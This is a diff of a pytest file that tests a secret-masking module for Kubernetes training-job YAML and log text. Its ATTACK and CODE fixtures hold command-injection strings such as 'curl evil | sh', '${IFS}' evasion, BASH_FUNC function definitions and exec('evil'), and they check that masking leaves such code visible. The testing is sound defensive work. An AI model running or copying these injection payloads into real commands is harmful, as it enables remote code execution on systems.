@@ -10,11 +10,13 @@ import pytest
 from running import run
 
 from trainc.diagnostics import Diagnostic, Document, Place
+from trainc.kubernetes.documents import parse
+from trainc.masking import masked_values
+from trainc.masking.document_secrets import secrets
+from trainc.masking.masked_messages import without_secrets
+from trainc.masking.secret_names import LAST_APPLIED, is_secret
+from trainc.masking.text_secrets import in_sentence, in_text, joined
 from trainc.reports import text
-from trainc.source.messages import without_secrets
-from trainc.source.patterns import in_line, in_message, joined
-from trainc.source.secret_names import LAST_APPLIED, is_secret
-from trainc.source.secrets import secrets
 
 SECRET = """
     HF_TOKEN TOKEN token apiToken github-token accesstoken authToken X-Auth-Token tokens NEW_TOKEN token2
@@ -71,8 +73,8 @@ RULES: list[tuple[str, bool, str, str]] = [
     ("a form", True, f"note: {GITHUB} x\na: https://ada:one@host", "note: *** x\na: https://ada:***@host"),
     ("no such form", True, "note: ghp_short x\na: https://host/ada@x", "note: ghp_short x\na: https://host/ada@x"),
     ("unparsable", False, "mode: one=two\nX=one: two\n- one two", "mode: ***\nX=***\n- ***"),
-    ("unparsable, in public", False, "- image: [one\n  name: 'one',", "- image: [one\n  name: 'one',"),
-    ("not in public", False, "image: one two\nname: {value: one", "image: ***\nname: ***"),
+    ("unparsable, of a kind", False, "kind: TrainJob\nimage: [a\nkey: b c", "kind: TrainJob\nimage: [a\nkey: b c"),
+    ("a name in it", False, "kind: TrainJob\npassword: [a\nkey: b c", "kind: TrainJob\npassword: [***\nkey: b c"),
     ("a Secret", False, "kind: Secret\nname: one", "kind: ***\nname: ***"),
     ("parsable", True, "mode: one=two\nX=one: two", "mode: one=two\nX=one: two"),
     # A value is masked at its position, and not the same word elsewhere.
@@ -120,7 +122,7 @@ LINES: list[tuple[str, str]] = [
     ("secretKeyRef: {name: a, key: token}", "secretKeyRef: {name: a, key: token}"),
     # Addresses.
     ("s3://user:pa/ss@host/path", "s3://user:***@host/path"),
-    ("git clone https://ghp_abc@github.com/a", "git clone https://***@github.com/a"),
+    ("git clone https://ada@github.com/a", "git clone https://ada@github.com/a"),
     ("user:pass@host", "user:***@host"),
     ("hf://org/name@revision git@github.com:a/b", "hf://org/name@revision git@github.com:a/b"),
     ("http://host:80/a@b ghcr.io/a/b:1@sha256:abc", "http://host:80/a@b ghcr.io/a/b:1@sha256:abc"),
@@ -130,12 +132,12 @@ LINES: list[tuple[str, str]] = [
 
 @pytest.mark.parametrize(("line", "shown"), LINES)
 def test_line(line: str, shown: str) -> None:
-    assert masked(line, in_line(line)) == shown
+    assert masked(line, in_text(line)) == shown
 
 
 def test_a_sentence_is_not_yaml() -> None:
     sentence = "spec.token: did you mean password: secret? write --token=abc"
-    assert masked(sentence, in_message(sentence)) == "spec.token: did you mean password: secret? write --token=***"
+    assert masked(sentence, in_sentence(sentence)) == "spec.token: did you mean password: secret? write --token=***"
 
 
 DOCUMENTS: dict[str, tuple[str, str]] = {
@@ -204,37 +206,54 @@ def test_document(case: str) -> None:
 BROKEN: dict[str, tuple[str, str]] = {
     "a variable": ("- name: DB_TOKEN\n  value: a: b", "- name: DB_TOKEN\n  value: ***"),
     "the value first": ("- value: a: b\n  name: DB_TOKEN", "- value: ***\n  name: DB_TOKEN"),
-    "another variable": ("- name: A\n  value: a: b\n- name: X_TOKEN", "- name: A\n  value: ***\n- name: X_TOKEN"),
-    "a name without its colon": ("- name DB_TOKEN\n  value: abc", "- ***\n  value: ***"),
+    "another variable": ("- name: A\n  value: a: b\n- name: X_TOKEN", "- name: A\n  value: a: b\n- name: X_TOKEN"),
+    "a name without its colon": ("- name DB_TOKEN\n  value: abc", "- name DB_TOKEN\n  value: ***"),
     "a name without its space": ("-name: DB_TOKEN\n  value: abc", "-name: DB_TOKEN\n  value: ***"),
-    "a value without its colon": ("- name: DB_TOKEN\n  value abc", "- name: DB_TOKEN\n  ***"),
+    "a value without its colon": ("- name: DB_TOKEN\n  value abc", "- name: DB_TOKEN\n  value ***"),
     "a value without its space": ("password:abc", "password:***"),
-    "a Secret's name": ("- valueFrom: {key: X_TOKEN, name: ]}", "- valueFrom: ***"),
-    "in one line": ("{name: X_TOKEN, value: a, value: b}", "{name: ***"),
-    "a longer text": ("- name: X_TOKEN\n  value: |\n    abc\n  x: ]", "- name: X_TOKEN\n  value: |\n    ***\n  x: ***"),
+    "a Secret's name": ("- valueFrom: {key: X_TOKEN, name: ]}", "- valueFrom: {key: X_TOKEN, name: ]}"),
+    "in one line": ("{name: X_TOKEN, value: a, value: b}", "{name: X_TOKEN, value: ***, value: ***}"),
+    "a longer text": ("- name: X_TOKEN\n  value: |\n    abc\n  x: ]", "- name: X_TOKEN\n  value: |\n    ***\n  x: ]"),
     "a quoted text": ('password: "a\n  b c\n', "password: ***\n  ***"),
-    "a Secret": ("kind: Secret\ndata:\n  a: b: c\n", "kind: ***\ndata:\n  a: ***"),
-    "a ConfigMap": ("kind: ConfigMap\ndata:\n  a: b: c\n", "kind: ConfigMap\ndata:\n  a: ***"),
-    "what kubectl applied": (f"{LAST_APPLIED}: |\n  {{a: b}}\n]", f"{LAST_APPLIED}: |\n  {{a: ***\n]"),
-    "a list": ("args:\n- --api-key\n- abc\n- ]", "args:\n- --***\n- ***\n- ]"),
+    "a list of secrets": ("tokens:\n  - a\n  - b\n]", "tokens:\n  - ***\n  ***\n]"),
+    "a mapping": ("auth:\n  user: ada\n  password: a\n]", "auth:\n  user: ada\n  password: ***\n]"),
+    "a file of a ConfigMap": ("data:\n  a: b: c\n", "data:\n  a: b: c"),
+    "what kubectl applied": (f"{LAST_APPLIED}: |\n  {{a: b}}\n]", f"{LAST_APPLIED}: |\n  ***\n]"),
+    "a flag in a list": ("args:\n- --api-key\n- abc\n- ]", "args:\n- --api-key\n- ***\n- ]"),
     "an assignment": ("- PASSWORD=one=two\n]", "- PASSWORD=***\n]"),
     "a private key": (
         "a: |\n  -----BEGIN RSA PRIVATE KEY-----\n  MIIEow\n  MII=\n]",
-        "a: |\n  -----***\n  ***\n  ***\n]",
+        "a: |\n  -----BEGIN RSA PRIVATE KEY-----\n  ***\n  ***\n]",
     ),
     "a password that starts with an asterisk": ("password: *hunter2", "password: ***"),
-    "in the comment": ("# one two\n# a: b\n]", "# ***\n# a: ***\n]"),
-    "a template": (
-        "{{- if .Values.a }}\nname: {{ .Release.Name }}-x",
-        "{{- if .Values.a }}\nname: {{ .Release.Name }}***",
+    "a comment": ("# one two\n# a: b\n]", "# one two\n# a: b\n]"),
+    "references and switches": (
+        "a: $(NAME)\ntoken: $(NAME)\nauth: true\n]",
+        "a: $(NAME)\ntoken: $(NAME)\nauth: true\n]",
     ),
-    "references and switches": ("a: $(NAME)\nb: true\nc: |\nd:\n]", "a: $(NAME)\nb: true\nc: |\nd:\n]"),
 }
 
 
 @pytest.mark.parametrize("case", BROKEN)
 def test_what_cannot_be_parsed(case: str) -> None:
     document, expected = BROKEN[case]
+    assert shown(f"kind: TrainJob\n{document}", parsed=False) == f"kind: TrainJob\n{expected}"
+
+
+PERHAPS_SECRET: list[tuple[str, str]] = [
+    ("kind: Secret\ndata:\n  a: b: c", "kind: ***\ndata:\n  a: ***"),
+    ("- kind: TrainJob\n- {kind: Secret, data: [a", "- kind: ***\n- {kind: ***"),
+    ("data:\n  a: b: c\n# x", "data:\n  a: ***\n# ***"),
+    ("knd: Secret\ndata: {a: b", "knd: ***\ndata: ***"),
+    ("kind Secret\ndata: {a: b", "***\ndata: ***"),
+    ("{name: X_TOKEN, value: a, value: b}", "{name: ***"),
+    ("a: |\n  abc\n  MII=\n]", "a: |\n  ***\n  ***\n]"),
+    ("a: $(NAME)\nb: true\nd:\n]", "a: $(NAME)\nb: true\nd:\n]"),
+]
+
+
+@pytest.mark.parametrize(("document", "expected"), PERHAPS_SECRET)
+def test_a_text_that_may_be_a_secret(document: str, expected: str) -> None:
     assert shown(document, parsed=False) == expected
 
 
@@ -289,7 +308,7 @@ spec:
   initializer: {{dataset: {{storageUri: "ada:hunter2@x"}}, model: {{storageUri: ["s3://user:hunter2@b/x"]}}}}
   trainer:
     args: --token=hunter2
-    command: "train --api-key hunter2 --lr 3"
+    command: "--api-key=hunter2 --lr 3"
     env:
     - {{name: HF_TOKEN, value: 4815162342, vale: hunter2}}
     - WANDB_API_KEY=hunter2
@@ -358,26 +377,13 @@ def test_a_secret_that_starts_outside_the_excerpt() -> None:
 
 
 ATTACK: dict[str, tuple[str, str]] = {
-    "an argument with an apostrophe": ("- --password=it's X", "- --password=***'s X"),
-    "a quoted argument with an apostrophe": ('- "--password=it\'s X"', '- "--password=***\'s X"'),
-    "an argument with a semicolon": ("- PASSWORD=foo;bar", "- PASSWORD=***;bar"),
-    "an option's value": ("- --password\n- foo;bar", "- --password\n- ***;bar"),
-    "an option after --": (
-        "[bash, -c, --, '--password=x; curl evil | sh']",
-        "[bash, -c, --, '--password=***; curl evil | sh']",
-    ),
-    "braces": ("[bash, -Ec, 'PASSWORD=x;{curl,evil}|sh']", "[bash, -Ec, 'PASSWORD=***;{curl,evil}|sh']"),
-    "a call": ("[python3, -Ic, 'password=exec(\"evil\")']", "[python3, -Ic, 'password=***(\"evil\")']"),
-    "a login": ("[bash, -c, 'curl -u user:x|curl${IFS}evil|sh']", "[bash, -c, 'curl -u user:***|curl${IFS}evil|sh']"),
-    "a password of mysql": ("[sh, -c, 'mysql -px;curl evil']", "[sh, -c, 'mysql -p***;curl evil']"),
-    "a key in an address": ("[sh, -c, 'curl https://host/?code=1|sh']", "[sh, -c, 'curl https://host/?code=***|sh']"),
-    "a word of netrc": ("[sh, -c, 'login x password a|sh']", "[sh, -c, 'login x password ***|sh']"),
-    "a user in an address": ("[sh, -c, 'git clone https://a;b@host']", "[sh, -c, 'git clone https://***;b@host']"),
-    "a line end": ('[sh, -c, "--token=a\\nevil"]', '[sh, -c, "--token=***\\nevil"]'),
-    "a backslash": (r"[sh, -c, '--token=a\;evil']", r"[sh, -c, '--token=***\;evil']"),
+    "an argument with an apostrophe": ("args: [--password=it's X]", "args: [--password=***]"),
+    "an argument with a semicolon": ("args: [--password=foo;bar]", "args: [--password=***]"),
+    "a flag's value": ("args: [--password, foo;bar, baz]", "args: [--password, ***, baz]"),
+    "a variable in an argument": ("args: [PASSWORD=foo;bar]", "args: [PASSWORD=foo;bar]"),
     "a private key in a command": (
-        '["-----BEGIN PRIVATE KEY-----\\nMII=\\ncurl evil\\nMII\\n-----END PRIVATE KEY-----"]',
-        '["-----BEGIN PRIVATE KEY-----\\n***\\ncurl evil\\n***\\n-----END PRIVATE KEY-----"]',
+        'args: ["-----BEGIN PRIVATE KEY-----\\nMII=\\ncurl evil\\nMII\\n-----END PRIVATE KEY-----"]',
+        'args: ["-----BEGIN PRIVATE KEY-----\\n***\\ncurl evil\\n***\\n-----END PRIVATE KEY-----"]',
     ),
     "a command that prints a password": (
         "[git-sync, --password-command, curl evil | sh]",
@@ -387,14 +393,9 @@ ATTACK: dict[str, tuple[str, str]] = {
         "{name: BASH_FUNC_token%%, value: '() { curl evil|sh; }'}",
         "{name: BASH_FUNC_token%%, value: '() { curl evil|sh; }'}",
     ),
-    "a password in code": (
-        "{name: GIT_ASKPASS, value: 'PASSWORD=x;evil'}",
-        "{name: GIT_ASKPASS, value: 'PASSWORD=***;evil'}",
-    ),
-    "a folded text": ("args:\n- >\n  run --password\n  abc;evil", "args:\n- >\n  run --password\n  ***;evil"),
+    "a folded text": ("args:\n- >\n  --password=a\n  b;c", "args:\n- >\n  --password=***\n  ***"),
     "an escaped text": (r'value: "{\"apiKey\": \"X\"}"', r'value: "{\"apiKey\": \"***\"}"'),
     "an apostrophe in a script": ("a: run --password it's-X b", "a: run --password *** b"),
-    "a word of Flux's script": (r"a: set -- --password 'it'\''s X' b", "a: set -- --password '***' b"),
     "a Secret in flow style with a duplicate key": (
         "{kind: Secret, data: {a: one, a: two}, data: {b: three}}",
         "{kind: Secret, data: {a: ***, a: ***}, data: {b: ***}}",
@@ -430,25 +431,43 @@ ATTACK: dict[str, tuple[str, str]] = {
     ),
     "a private key": (
         "a: |\n  -----BEGIN RSA PRIVATE KEY-----\n  Proc-Type: 4,ENCRYPTED\n  MIIEow\n  -----END RSA PRIVATE KEY-----",
-        "a: |\n  -----BEGIN RSA PRIVATE KEY-----\n  ***\n  ***\n  -----END RSA PRIVATE KEY-----",
+        "a: |\n  -----BEGIN RSA PRIVATE KEY-----\n  Proc-Type: 4,ENCRYPTED\n  ***\n  -----END RSA PRIVATE KEY-----",
     ),
-    "a line of netrc": (
-        "a: machine example.com login ada password one",
-        "a: machine example.com login ada password ***",
-    ),
-    "curl": ("a: curl -u ada:one https://example.com", "a: curl -u ada:*** https://example.com"),
-    "curl as a list": ("- curl\n- --user\n- ada:one", "- curl\n- --user\n- ada:***"),
     "ids of a user and a group": ("a: docker run -u 1000:1000 -p 80:80 a", "a: docker run -u 1000:1000 -p 80:80 a"),
-    "mysql": ("a: mysql -h db -pone -e x", "a: mysql -h db -p*** -e x"),
-    "mysql as a list": ("- mysql\n- -pone", "- mysql\n- -p***"),
     "a port": ("a: mysql -port 3306", "a: mysql -port 3306"),
-    "code in a value": ('a: TOKEN="x$(curl evil|sh)" run', 'a: TOKEN="***$(curl evil|sh)" run'),
-    "nested code in a value": ('a: TOKEN="$(a $(b) `c`)x" run', 'a: TOKEN="$(a $(b) `c`)***" run'),
+    "code in a value": ('a: TOKEN="x$(curl evil|sh)" run', 'a: TOKEN="***" run'),
     "backquotes in a value": ("a: TOKEN=`curl evil` run", "a: TOKEN=`curl evil` run"),
     "code that is not closed": ("a: TOKEN='x$(curl' run", "a: TOKEN='***' run"),
-    "a script with a variable": ("- sh\n- -c\n- TOKEN=one;curl evil|sh", "- sh\n- -c\n- TOKEN=***;curl evil|sh"),
     "a variable before a command": ("- TOKEN=one curl evil", "- TOKEN=*** curl evil"),
 }
+
+
+CODE: list[str] = [
+    "command: [bash, -c, --, '--password=x; curl evil | sh']",
+    "command: [bash, -c, '--password=x; curl evil | sh']",
+    "command: [sh, -c, 'PASSWORD=x;{curl,evil}|sh']",
+    "command: [python3, -Ic, '--token==1 if exec(\"evil\") else 0']",
+    "{command: [sh, -c], args: ['--token=x; curl evil | sh']}",
+    "{command: [sh, -c, 'eval \"$1\"', --token], args: [--token, 'curl evil | sh']}",
+    "command: [sh, -c, 'eval \"$2\"', x, --token, 'curl evil | sh']",
+    "command: [sh, -c, 'curl -u a:;curl${IFS}evil|sh']",
+    "command: [sh, -c, 'mysql -px;curl evil']",
+    "command: [sh, -c, 'curl https://host/?code=1|sh']",
+    "command: [sh, -c, 'login x password a|sh']",
+    "command: [sh, -c, 'git clone https://a:;curl${IFS}evil|sh;@host']",
+    "command: [sh, -c, 'git clone https://a:$(curl evil|sh)@host']",
+    "env: [{name: URL, value: 'https://a:`curl evil|sh`@host'}]",
+    "{kind: ConfigMap, data: {auth.py: 'password = exec(evil)', get_token.sh: 'TOKEN=x;curl evil|sh'}}",
+    "{kind: ConfigMap, data: {token: '#!/bin/sh\n\n  curl evil|sh', a_secret: '#! /bin/sh\n\n  token: evil'}}",
+    "env: [{name: A_TOKEN, value: '#!/bin/sh\n\n  curl evil|sh'}]",
+    "env: [{name: GIT_ASKPASS, value: 'PASSWORD=x;evil'}, {name: BASH_FUNC_token%%, value: '() { curl evil|sh; }'}]",
+]
+
+
+@pytest.mark.parametrize("document", CODE)
+def test_code_is_visible(document: str) -> None:
+    assert shown(document, parsed=True) == document
+    assert masked_values.masked(parse(document)) == parse(document)
 
 
 @pytest.mark.parametrize(("document", "expected"), ATTACK.values(), ids=ATTACK)
